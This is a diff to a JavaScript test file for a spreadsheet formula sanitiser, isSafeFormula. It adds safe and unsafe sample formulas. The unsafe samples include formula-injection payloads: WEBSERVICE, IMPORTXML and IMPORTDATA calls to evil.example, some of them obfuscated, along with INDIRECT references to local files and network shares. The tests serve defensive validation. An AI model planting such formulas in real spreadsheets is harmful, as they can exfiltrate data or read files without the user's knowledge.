@@ -35,6 +35,11 @@ test.each([
   `'it''s'!A1&"|"&"it's CALL("&'a b'!A1`,
   `Table1[it''s]&"a|b"&Table1[[#This Row],[a b]]`,
   'BYROW(A1:C3,_xleta.SUM)',
+  '_xlfn._xlws.FILTER(A1:A9,B1:B9)',
+  `INDIRECT("'"&A1&"'!B2")`,
+  'INDIRECT("Table1["&A1&"]")',
+  'IFERROR(__xludf.DUMMYFUNCTION("UNIQUE(A1:A9)"),1)',
+  'IFERROR(__xludf.DUMMYFUNCTION("""COMPUTED_VALUE"""),1)',
 ])('the formula %s may stay', (formula) => {
   expect(isSafeFormula(formula)).toBe(true);
 });
@@ -63,6 +68,14 @@ test.each([
   'SUM(EXEC ("calc"))',
   '_xll.RUNIT(1)',
   'REGISTER.ID("a","b")',
+  `INDIRECT("'file:///tmp/a.ods'#$Sheet1.A1")`,
+  `INDIRECT("'"&"\\\\server\\[a.xlsx]Sheet1'!A1")`,
+  `IF(A1,INDIRECT("'["&B1&"]Sheet1'!A1"),0)`,
+  '_xlfn.LET(_xlpm.f,_xlfn.WEBSERVICE,_xlpm.f("https://evil.example/"))',
+  'IMPORTRANGE("a","b")',
+  'IFERROR(__xludf.DUMMYFUNCTION("IMPORTXML(""https://evil.example/"",""//a"")"),1)',
+  'IFERROR(__xludf.DUMMYFUNCTION("IMPORT"&"DATA(""https://evil.example/"")"),1)',
+  '__xludf.DUMMYFUNCTION(A1)',
 ])('the formula %s may not stay', (formula) => {
   expect(isSafeFormula(formula)).toBe(false);
 });
